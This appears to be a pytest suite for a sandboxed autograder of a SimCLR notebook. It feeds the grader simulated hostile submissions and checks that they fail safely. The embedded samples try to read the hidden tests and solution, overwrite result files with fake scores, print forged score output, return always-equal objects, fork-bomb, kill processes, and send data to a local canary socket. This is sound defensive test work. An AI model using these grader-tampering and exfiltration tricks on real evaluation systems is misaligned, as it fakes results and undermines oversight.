"""A catalogue of hostile and broken submissions: each costs its own points and nothing else.

Each submission replaces some graded functions of the reference with an attack
or an accident (one per function, so that one submission tests several) and
the test asserts the exact score of every function, that nothing outside the
sandbox changed, that the hidden suite and the reference were not readable,
and that each hang and endless loop was stopped by its time limit (its feedback says
so). See SECURITY.md for the threat table.
"""
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from autograder.frontends.examples import make_submission
from autograder.grading.grade import grade_submission
from autograder.grading.points import POINTS, function_points
from autograder.isolation.sandbox import bubblewrap_problem, bubblewrap_works

NB = "03_simclr"
REPO = Path(__file__).resolve().parents[1]
REFERENCE = REPO / "solutions" / "self_supervised" / f"{NB}.ipynb"
SUITE = REPO / "autograder" / "suites" / f"test_{NB}.py"
FULL = {f: function_points(NB, f) for f in POINTS[NB]}
TIMEOUT = 4.0  # seconds per call of a student function in these tests

pytestmark = pytest.mark.skipif(not bubblewrap_works(), reason=f"needs the bubblewrap sandbox: {bubblewrap_problem()}")


@pytest.fixture(scope="module")
def canaries(tmp_path_factory):
    """Files a hostile submission would love to read or change, and a server it would call."""
    root = tmp_path_factory.mktemp("grader")
    secret = root / "secret.txt"
    secret.write_text("TOPSECRET")
    results = root / "results" / "results.json"
    results.parent.mkdir()
    results.write_text("ORIGINAL")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(server.accept())
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield {"secret": secret, "results": results, "port": server.getsockname()[1], "connections": connections}
    stop.set()
    thread.join()
    server.close()


def _grade(tmp_path, code):
    make_submission(tmp_path, NB, code)
    return grade_submission(tmp_path, call_timeout=TIMEOUT)


def _scores(result):
    return {f.function: f.score for f in result.functions()}


def _feedback(result, function):
    return next(f.feedback for f in result.functions() if f.function == function)


def _expect(result, zeroed):
    """Every function in ``zeroed`` scores 0, every other one full marks."""
    assert _scores(result) == {f: (0.0 if f in zeroed else p) for f, p in FULL.items()}, \
        {f.function: f.feedback for f in result.functions()}


def test_reading_writing_and_reaching_out(tmp_path, canaries):
    """Secrets, results, the grader's modules, fake output, lying objects, stray processes."""
    c = canaries
    code = {
        "sim": f"""
def sim(z_i, z_j):
    found = []
    for path in [{str(REFERENCE)!r}, {str(SUITE)!r}, {str(c['secret'])!r}]:
        try:
            found.append(open(path).read()[:300])
        except OSError as e:
            found.append(type(e).__name__)
    raise ValueError(" | ".join(found))
""",
        "compute_sim_matrix": f"""
def compute_sim_matrix(out):
    for path in [{str(c['results'])!r}, {str(c['secret'])!r}]:
        try:
            open(path, "w").write('{{"score": 999}}')
        except OSError:
            pass
    unit = out / torch.linalg.vector_norm(out, dim=1, keepdim=True)
    return unit @ unit.T
""",
        "sim_positive_pairs": """
def sim_positive_pairs(out_left, out_right):
    import autograder.grading.checks as fw
    fw.expect_tensor = lambda *a, **k: None
    return torch.zeros(out_left.shape[0], 1)
""",
        "simclr_loss_naive": """
def simclr_loss_naive(out_left, out_right, tau):
    import json
    for _ in range(200):
        print(json.dumps({"score": 14, "tests": [{"name": "all", "score": 14, "max_score": 14}]}))
    print("simclr_loss_naive: 3/3 points")
    return torch.tensor(0.0)
""",
        "simclr_loss_vectorized": """
class Liar:
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.0

def simclr_loss_vectorized(out_left, out_right, tau):
    return Liar()
""",
        "compute_train_transform": f"""
def compute_train_transform(size=32, mean=DEFAULT_MEAN, std=DEFAULT_STD):
    import subprocess, sys, os
    script = "import time; time.sleep(2); open({str(c['results'])!r}, 'w').write('hacked by background')"
    try:
        subprocess.Popen([sys.executable, "-c", script, "ssl-kit-stray-process"], start_new_session=True)
    except OSError:
        pass
    if os.fork() == 0:
        import time
        time.sleep(60)
        os._exit(0)
    return T.Compose([T.ToImage(), T.RandomResizedCrop(size, antialias=True), T.RandomHorizontalFlip(p=0.5),
                      T.RandomApply([T.ColorJitter(0.4, 0.4, 0.4, 0.1)], p=0.8), T.RandomGrayscale(p=0.2),
                      T.ToDtype(torch.float32, scale=True), T.Normalize(mean, std)])
""",
    }
    result = _grade(tmp_path, code)
    _expect(result, {"sim", "sim_positive_pairs", "simclr_loss_naive", "simclr_loss_vectorized"})
    leak = _feedback(result, "sim")
    assert "FileNotFoundError | FileNotFoundError | FileNotFoundError" in leak
    assert "BEGIN SOLUTION" not in leak and "TOPSECRET" not in leak and "def test_" not in leak
    assert "No module named 'autograder'" in _feedback(result, "sim_positive_pairs")
    assert "Liar" in _feedback(result, "simclr_loss_vectorized")
    assert "expected a torch.Tensor" in _feedback(result, "simclr_loss_vectorized") or \
        "cannot be sent" in _feedback(result, "simclr_loss_vectorized")
    time.sleep(3)  # give a stray background writer the time it asked for
    assert c["results"].read_text() == "ORIGINAL" and c["secret"].read_text() == "TOPSECRET"
    stray = subprocess.run(["pgrep", "-f", "ssl-kit-stray-process"], capture_output=True, text=True)
    assert stray.stdout.strip() == "", "a student's background process outlived grading"


def test_exits_kills_hangs_and_the_network(tmp_path, canaries):
    code = {
        "sim": "def sim(z_i, z_j):\n    import sys\n    sys.exit(0)",
        "compute_sim_matrix": "def compute_sim_matrix(out):\n    import os\n    os._exit(3)",
        "sim_positive_pairs": """
def sim_positive_pairs(out_left, out_right):
    import os, signal
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
""",
        "simclr_loss_naive": "def simclr_loss_naive(out_left, out_right, tau):\n    while True:\n        pass",
        "simclr_loss_vectorized": """
class Sneaky(torch.Tensor):
    def __eq__(self, other):
        return True

def simclr_loss_vectorized(out_left, out_right, tau):
    return torch.tensor(0.0).as_subclass(Sneaky)
""",
        "compute_train_transform": f"""
def compute_train_transform(size=32, mean=DEFAULT_MEAN, std=DEFAULT_STD):
    import socket
    try:
        socket.create_connection(("127.0.0.1", {canaries['port']}), timeout=1).send(b"leak")
    except OSError:
        pass
    return T.Compose([T.ToImage(), T.RandomResizedCrop(size, antialias=True), T.RandomHorizontalFlip(p=0.5),
                      T.RandomApply([T.ColorJitter(0.4, 0.4, 0.4, 0.1)], p=0.8), T.RandomGrayscale(p=0.2),
                      T.ToDtype(torch.float32, scale=True), T.Normalize(mean, std)])
""",
    }
    result = _grade(tmp_path, code)
    _expect(result, {"sim", "compute_sim_matrix", "sim_positive_pairs", "simclr_loss_naive", "simclr_loss_vectorized"})
    assert "stopped the Python process" in _feedback(result, "sim")
    assert "exited with status 3" in _feedback(result, "compute_sim_matrix")
    assert "stopped the Python process" in _feedback(result, "sim_positive_pairs")
    assert "did not finish in time" in _feedback(result, "simclr_loss_naive")
    assert "Sneaky" in _feedback(result, "simclr_loss_vectorized")
    assert canaries["connections"] == [], "student code reached the network"


def test_memory_output_forks_channel_and_signals(tmp_path):
    code = {
        "sim": """
def sim(z_i, z_j):
    hog = []
    while True:
        hog.append(bytearray(50_000_000))
""",
        "compute_sim_matrix": """
_printed = [False]

def compute_sim_matrix(out):
    import sys
    for _ in range(0 if _printed[0] else 100):
        sys.stdout.write("x" * 1_000_000 + "\\n")  # 100 MB of output, on the first call
    _printed[0] = True
    unit = out / torch.linalg.vector_norm(out, dim=1, keepdim=True)
    return unit @ unit.T
""",
        "sim_positive_pairs": """
def sim_positive_pairs(out_left, out_right):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        "simclr_loss_naive": """
def simclr_loss_naive(out_left, out_right, tau):
    import os, sys
    os.write(int(sys.argv[2]), b"SSLG" + b"\\xff" * 4096)
    return torch.tensor(1.0)
""",
        "simclr_loss_vectorized": """
def simclr_loss_vectorized(out_left, out_right, tau):
    import os, sys
    os.close(int(sys.argv[1]))
    os.close(int(sys.argv[2]))
    return torch.tensor(1.0)
""",
        "compute_train_transform": """
def compute_train_transform(size=32, mean=DEFAULT_MEAN, std=DEFAULT_STD):
    import os, signal
    os.kill(os.getpid(), signal.SIGSTOP)
""",
    }
    result = _grade(tmp_path, code)
    _expect(result, {"sim", "sim_positive_pairs", "simclr_loss_naive", "simclr_loss_vectorized",
                     "compute_train_transform"})
    assert "MemoryError" in _feedback(result, "sim")
    assert "invalid reply" in _feedback(result, "simclr_loss_naive") or "stopped" in _feedback(result, "simclr_loss_naive")
    assert "did not finish in time" in _feedback(result, "compute_train_transform")
    leftovers = subprocess.run(["pgrep", "-u", "65534"], capture_output=True, text=True).stdout.split()
    assert len(leftovers) < 5, f"{len(leftovers)} processes of the sandbox user outlived grading"


def test_a_huge_notebook_is_reported_not_loaded(tmp_path, monkeypatch):
    from autograder.grading import extract

    monkeypatch.setattr(extract, "DEFAULT_MAX_BYTES", 8 * 2**20)  # the real limit (200 MB) is slow to write
    path = make_submission(tmp_path, NB, {})
    nb = json.loads(path.read_text())
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * (9 * 2**20)})
    path.write_text(json.dumps(nb))
    result = grade_submission(tmp_path)
    assert result.score == 0
    assert all("could not be read" in f.feedback and "larger than the limit" in f.feedback for f in result.functions())


def test_regrading_gives_the_same_result(tmp_path):
    from autograder.frontends.examples import BUGGY_SIMCLR

    make_submission(tmp_path, NB, BUGGY_SIMCLR)
    first, second = grade_submission(tmp_path), grade_submission(tmp_path)
    assert [(c.function, c.check, c.score, c.feedback) for c in first.checks] == \
        [(c.function, c.check, c.score, c.feedback) for c in second.checks]


def test_a_grader_killed_midway_leaves_no_results(tmp_path):
    root = tmp_path / "autograder"
    make_submission(root / "submission", NB, {})
    results = root / "results" / "results.json"
    results.parent.mkdir(parents=True)
    results.write_text('{"score": 999}')  # planted, or left by an earlier run
    proc = subprocess.Popen([sys.executable, "-m", "autograder", "gradescope-run", "--root", str(root)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    time.sleep(4)
    os.killpg(proc.pid, 9)
    proc.wait()
    assert not results.exists()
    assert list(results.parent.iterdir()) == []  # no temporary half-written file either
